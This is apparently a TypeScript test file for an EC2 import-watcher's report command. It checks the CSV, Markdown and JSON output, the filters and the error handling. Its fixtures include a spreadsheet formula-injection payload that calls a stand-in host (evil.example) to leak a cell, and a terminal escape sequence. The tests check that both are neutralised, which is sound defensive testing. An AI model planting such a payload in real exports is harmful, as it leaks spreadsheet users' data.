import assert from 'node:assert/strict';
import {spawn, spawnSync} from 'node:child_process';
import {appendFileSync, mkdirSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {Writable} from 'node:stream';
import {describe, it} from 'node:test';
import {type History, observe} from '../../source/model/history.js';
import {priorHistory, resume} from '../../source/model/history-restore.js';
import type {ImportTask} from '../../source/model/import-task.js';
import {journalLine} from '../../source/model/journal-line.js';
import {isoWithOffset} from '../../source/model/report-format.js';
import {runReport} from '../../source/shell/run-report.js';
import {openJournal} from '../../source/watch/journal-file.js';
import {task} from '../helpers/tasks.js';
import {assertBuilt, launchPath} from '../helpers/term.js';
import {scratchDir} from '../helpers/scratch-dir.js';

// `ec2-import-watch report` over a journal the watcher itself wrote (observe → the journal file), in each format.

const minute = 60_000;
const gib = 2 ** 30;
const start = Date.UTC(2026, 11, 7, 8, 0, 0);
/** Times are written at +01:00 here, whatever the machine's zone. */
const plusOne = () => 60;
const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';

function sink(): {stream: Writable; text: () => string} {
	let text = '';
	const stream = new Writable({
		write(chunk, _encoding, done) {
			text += String(chunk);
			done();
		},
	});
	return {stream, text: () => text};
}

function report(argv: string[], env: NodeJS.ProcessEnv = {}) {
	const out = sink();
	const err = sink();
	const code = runReport(argv, {stdout: out.stream, stderr: err.stream, env, now: start + 300 * minute, offsetAt: plusOne});
	return {code, out: out.text(), err: err.text()};
}

const disk = (gibs: number) => ({diskImageSize: gibs * gib, format: 'VMDK'});

/** A wave the watcher saw: one image import already done at start, one that completes, one that fails, one snapshot still going. */
function writeWave(path: string): void {
	const journal = openJournal(path);
	const polls: [number, ImportTask[]][] = [
		[
			0,
			[
				task('import-ami-done', {status: 'completed', statusMessage: undefined, progress: undefined, imageId: 'ami-0old', snapshotDetails: [disk(4)]}),
				task('import-ami-a', {statusMessage: 'pending', progress: undefined, description: formula, region: 'eu-west-1'}),
			],
		],
		[
			10 * minute,
			[
				task('import-ami-done', {status: 'completed', statusMessage: undefined, progress: undefined, imageId: 'ami-0old', snapshotDetails: [disk(4)]}),
				task('import-ami-a', {statusMessage: 'converting', progress: 30, description: formula, region: 'eu-west-1', snapshotDetails: [disk(8)]}),
				task('import-ami-b', {statusMessage: 'pending', progress: undefined, description: 'web | tier, "two"', region: 'eu-west-1'}),
			],
		],
		[
			130 * minute,
			[
				task('import-ami-done', {status: 'completed', statusMessage: undefined, progress: undefined, imageId: 'ami-0old', snapshotDetails: [disk(4)]}),
				task('import-ami-a', {
					status: 'completed',
					statusMessage: undefined,
					progress: undefined,
					description: formula,
					region: 'eu-west-1',
					imageId: 'ami-0a',
					snapshotDetails: [disk(8)],
				}),
				task('import-ami-b', {
					status: 'deleted',
					statusMessage: 'ClientError: Unknown OS / missing OS files.',
					progress: undefined,
					description: 'web | tier, "two"',
					region: 'eu-west-1',
				}),
				task('import-snap-c', {kind: 'snapshot', statusMessage: 'downloading/converting', description: '-data disk\u001b[31m', region: 'eu-west-1'}),
			],
		],
	];
	let history: History = new Map();
	for (const [offset, tasks] of polls) {
		const seen = observe(history, tasks, start + offset, offset === 0, 30 * minute);
		history = seen.history;
		journal.append(seen.entries);
	}
	void journal.close();
	// What other parts of the watcher add to a record reaches the report: the result id and the failure's cause.
	appendFileSync(
		path,
		`${JSON.stringify({time: new Date(start + 131 * minute).toISOString(), event: 'message', taskId: 'import-ami-b', kind: 'image', region: 'eu-west-1', status: 'deleted', from: 'x', to: 'ClientError: Unknown OS / missing OS files.', explanation: {cause: 'The disk has no OS EC2 recognises', fix: 'check the boot disk', doc: 'https://docs.aws.amazon.com/'}})}\n`,
	);
	appendFileSync(
		path,
		`${JSON.stringify({time: new Date(start + 131 * minute).toISOString(), event: 'status', taskId: 'import-ami-a', kind: 'image', region: 'eu-west-1', status: 'completed', from: 'completed', to: 'completed', resultId: 'ami-0a'})}\n`,
	);
}

function wave(): string {
	const dir = scratchDir('eiw-report-');
	const path = join(dir, 'imports.jsonl');
	writeWave(path);
	return path;
}

describe('report', () => {
	it('csv: RFC 4180 (CRLF, quoted fields), one row per import, a formula-looking cell neutralised, no escape sequences', () => {
		const {code, out, err} = report(['--journal', wave()]);
		assert.equal(code, 0, err);
		assert.equal(err, '');
		assert.ok(out.endsWith('\r\n') && !/[^\r]\n/.test(out), 'every line ends in CRLF');
		const lines = out.split('\r\n').slice(0, -1);
		assert.deepEqual(lines, [
			'task_id,kind,region,description,status,first_seen,ended,duration_s,disk_bytes,gib_per_hour,result_id,message,explanation',
			'import-ami-done,image,,,completed,2026-12-07T09:00:00+01:00,,,4294967296,,ami-0old,,',
			`import-ami-a,image,eu-west-1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",completed,2026-12-07T09:00:00+01:00,2026-12-07T11:10:00+01:00,7800,8589934592,3.69,ami-0a,,`,
			'import-ami-b,image,eu-west-1,"web | tier, ""two""",deleted,2026-12-07T09:10:00+01:00,2026-12-07T11:10:00+01:00,7200,,,,ClientError: Unknown OS / missing OS files.,The disk has no OS EC2 recognises',
			"import-snap-c,snapshot,eu-west-1,'-data disk␛,active,2026-12-07T11:10:00+01:00,,,,,,downloading/converting,",
		]);
		assert.doesNotMatch(out, /\u001b/);
	});

	it('md: a table with pipes escaped, and the totals', () => {
		const {code, out} = report(['--journal', wave(), '--format', 'md']);
		assert.equal(code, 0);
		const lines = out.split('\n');
		assert.equal(
			lines[0],
			'| task_id | kind | region | description | status | first_seen | ended | duration_s | disk_bytes | gib_per_hour | result_id | message | explanation |',
		);
		assert.equal(lines[1], '| --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- |');
		assert.equal(
			lines[4],
			'| import-ami-b | image | eu-west-1 | web \\| tier, "two" | deleted | 2026-12-07T09:10:00+01:00 | 2026-12-07T11:10:00+01:00 | 7200 | — | — | — | ClientError: Unknown OS / missing OS files. | The disk has no OS EC2 recognises |',
		);
		for (const row of lines.slice(2, 6)) assert.equal(row.split(/(?<!\\)\|/).length, 15, `13 cells: ${row}`);
		assert.deepEqual(lines.slice(7), [
			'Totals:',
			'',
			'- imports: 4',
			'- completed: 2',
			'- failed or cancelled (deleted): 1',
			'- total GiB (completed): 12 GiB',
			'- median duration (completed): 2h 10m',
			'- throughput (completed, first seen to last ended): 3.7 GiB/h',
			'',
		]);
		assert.doesNotMatch(out, /\u001b/);
	});

	it('json: an array of the same rows, numbers as numbers, unknowns null', () => {
		const {code, out} = report(['--journal', wave(), '--format', 'json']);
		assert.equal(code, 0);
		const rows = JSON.parse(out);
		assert.equal(rows.length, 4);
		assert.deepEqual(rows[1], {
			task_id: 'import-ami-a',
			kind: 'image',
			region: 'eu-west-1',
			description: formula,
			status: 'completed',
			first_seen: '2026-12-07T09:00:00+01:00',
			ended: '2026-12-07T11:10:00+01:00',
			duration_s: 7800,
			disk_bytes: 8 * gib,
			gib_per_hour: 3.69,
			result_id: 'ami-0a',
			message: null,
			explanation: null,
		});
		assert.equal(rows[3].description, '-data disk␛', 'sanitised');
	});

	it('--since, --state and --kind filter the rows', () => {
		const path = wave();
		const ids = (argv: string[]) => JSON.parse(report(['--journal', path, '--format', 'json', ...argv]).out).map((row: {task_id: string}) => row.task_id);
		assert.deepEqual(ids(['--state', 'completed']), ['import-ami-done', 'import-ami-a']);
		assert.deepEqual(ids(['--state', 'deleted,active']), ['import-ami-b', 'import-snap-c']);
		assert.deepEqual(ids(['--kind', 'snapshot']), ['import-snap-c']);
		assert.deepEqual(ids(['--since', '2026-12-07T09:05+01:00']), ['import-ami-b', 'import-snap-c']);
		assert.deepEqual(ids(['--since', '2026-12-07T08:10:00Z', '--kind', 'image']), ['import-ami-b']);
		assert.deepEqual(ids(['--since', '3h']), ['import-snap-c'], 'now is 13:00 UTC here: since 10:00 UTC');
		const none = report(['--journal', path, '--state', 'deleting']);
		assert.equal(none.code, 0);
		assert.equal(none.err, 'ec2-import-watch report: none of the 4 imports match the filters\n');
		assert.equal(none.out.split('\r\n')[1], '', 'the header only');
	});

	it('reads the history file by default ($XDG_STATE_HOME), and counts lines that are not records', () => {
		const state = scratchDir('eiw-state-');
		mkdirSync(join(state, 'ec2-import-watch'));
		const history = join(state, 'ec2-import-watch', 'history.jsonl');
		writeWave(history);
		appendFileSync(history, '{"time": "2026-12-07T1');
		const {code, out, err} = report(['--kind', 'snapshot'], {XDG_STATE_HOME: state});
		assert.equal(code, 0);
		assert.match(out, /^import-snap-c,/m);
		assert.equal(err, `ec2-import-watch report: 1 line of ${history} skipped: not journal records\n`);
	});

	it('reads a history a restart wrote: versioned lines, a completion seen late; a later schema’s line is skipped', () => {
		const state = scratchDir('eiw-state-');
		const store = join(state, 'ec2-import-watch');
		mkdirSync(store);
		const history = join(store, 'history.jsonl');
		const first = observe(
			new Map(),
			[task('import-ami-late', {statusMessage: 'converting', progress: 40, snapshotDetails: [disk(2)]})],
			start,
			true,
			30 * minute,
		);
		// The watcher was stopped; the next one's first poll found the import completed.
		const resumed = resume(
			priorHistory(first.entries),
			[task('import-ami-late', {status: 'completed', statusMessage: undefined, progress: undefined, imageId: 'ami-0late', snapshotDetails: [disk(2)]})],
			start + 60 * minute,
			30 * minute,
		);
		assert.equal(resumed.entries[0]?.late, true);
		const lines = [...first.entries, ...resumed.entries].map(journalLine);
		writeFileSync(history, `${lines.join('')}${lines[0]?.replace('"v":1', '"v":2') ?? ''}`);
		const {code, out, err} = report(['--format', 'json'], {XDG_STATE_HOME: state});
		assert.equal(code, 0);
		const [row] = JSON.parse(out);
		assert.equal(row.task_id, 'import-ami-late');
		assert.equal(row.status, 'completed');
		assert.equal(row.result_id, 'ami-0late');
		assert.equal(row.ended, isoWithOffset(start + 60 * minute, plusOne), 'ended when the restart noticed it');
		assert.deepEqual([row.duration_s, row.gib_per_hour], [null, null], 'it ended some time before: no duration, no rate');
		assert.equal(err, `ec2-import-watch report: 1 line of ${history} skipped: not journal records\n`);
	});

	it('bad input: one line each on stderr, exit code 2', () => {
		const path = wave();
		const empty = join(scratchDir('eiw-empty-'), 'empty.jsonl');
		writeFileSync(empty, '\n');
		const cases: [string[], string, NodeJS.ProcessEnv?][] = [
			[['--journal', path, '--format', 'xlsx'], 'ec2-import-watch report: --format must be csv, md or json (got "xlsx")\n'],
			[['--journal', empty], `ec2-import-watch report: ${empty} holds no imports yet\n`],
			[['--journal', '/nonexistent/imports.jsonl'], 'ec2-import-watch report: no journal at /nonexistent/imports.jsonl\n'],
			[
				[],
				'ec2-import-watch report: no history yet at /nonexistent-state/ec2-import-watch/history.jsonl: the watcher writes it as it runs (or pass --journal FILE)\n',
				{XDG_STATE_HOME: '/nonexistent-state'},
			],
			[['--journal', path, '--state', 'failed'], 'ec2-import-watch report: --state: "failed" is not a task state (use active, completed, deleting, deleted)\n'],
			[['--journal', path, '--kind', 'volume'], 'ec2-import-watch report: --kind: "volume" is not a kind of import (use image, snapshot)\n'],
			[
				['--journal', path, '--since', 'yesterday'],
				'ec2-import-watch report: --since must be a date or time (2026-12-07, 2026-12-07T08:00+01:00) or a time ago (24h, 7d) (got "yesterday")\n',
			],
			[['--journal', path, '--colour'], "ec2-import-watch report: Unknown option '--colour' (see report --help)\n"],
		];
		for (const [argv, line, env] of cases) {
			const result = report(argv, env);
			assert.deepEqual([result.code, result.err, result.out], [2, line, ''], argv.join(' '));
		}
		const help = report(['--help']);
		assert.equal(help.code, 0);
		assert.match(help.out, /^Usage: ec2-import-watch report/);
	});
});

describe('report as a command', () => {
	it('is a subcommand of the installed command: the report on stdout, a bad format one line and exit 2', () => {
		assertBuilt();
		const path = wave();
		const env = {PATH: process.env.PATH, HOME: '/nonexistent-home', TZ: 'UTC', LANG: 'C.UTF-8'};
		const good = spawnSync(process.execPath, [launchPath, 'report', '--journal', path, '--format', 'csv', '--kind', 'snapshot'], {
			env,
			encoding: 'utf8',
			timeout: 20_000,
		});
		assert.equal(good.status, 0, good.stderr);
		assert.equal(good.stdout.split('\r\n')[1], "import-snap-c,snapshot,eu-west-1,'-data disk␛,active,2026-12-07T10:10:00+00:00,,,,,,downloading/converting,");
		const bad = spawnSync(process.execPath, [launchPath, 'report', '--journal', path, '--format', 'html'], {env, encoding: 'utf8', timeout: 20_000});
		assert.deepEqual([bad.status, bad.stdout, bad.stderr], [2, '', 'ec2-import-watch report: --format must be csv, md or json (got "html")\n']);
	});

	it('with neither HOME nor XDG_STATE_HOME absolute: no history, as the watcher keeps none; one line and exit 2', () => {
		assertBuilt();
		const line = 'ec2-import-watch report: no history: neither XDG_STATE_HOME nor HOME is an absolute path (set one, or pass --journal FILE)\n';
		const cwd = scratchDir('eiw-cwd-');
		const homes: NodeJS.ProcessEnv[] = [{}, {HOME: ''}, {HOME: 'relative'}, {HOME: 'relative', XDG_STATE_HOME: 'also-relative'}];
		for (const home of homes) {
			const result = spawnSync(process.execPath, [launchPath, 'report'], {env: {PATH: process.env.PATH, ...home}, cwd, encoding: 'utf8', timeout: 20_000});
			assert.deepEqual([result.status, result.stdout, result.stderr], [2, '', line], JSON.stringify(home));
		}
	});

	it('into a pipe that closes early (| head): ends quietly with 141', async () => {
		const path = join(scratchDir('eiw-big-'), 'big.jsonl');
		const record = (index: number) =>
			JSON.stringify({
				time: new Date(start + index * 1000).toISOString(),
				event: 'new',
				taskId: `import-ami-${String(index).padStart(17, '0')}`,
				kind: 'image',
				status: 'active',
				description: 'x'.repeat(100),
			});
		writeFileSync(path, `${Array.from({length: 5000}, (_, index) => record(index)).join('\n')}\n`);
		const child = spawn(process.execPath, [launchPath, 'report', '--journal', path], {
			env: {PATH: process.env.PATH, HOME: '/nonexistent-home'},
			stdio: ['ignore', 'pipe', 'pipe'],
		});
		let stderr = '';
		child.stderr.on('data', (chunk) => {
			stderr += String(chunk);
		});
		child.stdout.once('data', () => child.stdout.destroy());
		const code = await new Promise<number | null>((resolve) => child.on('exit', (exitCode) => resolve(exitCode)));
		assert.deepEqual([code, stderr], [141, '']);
	});
});
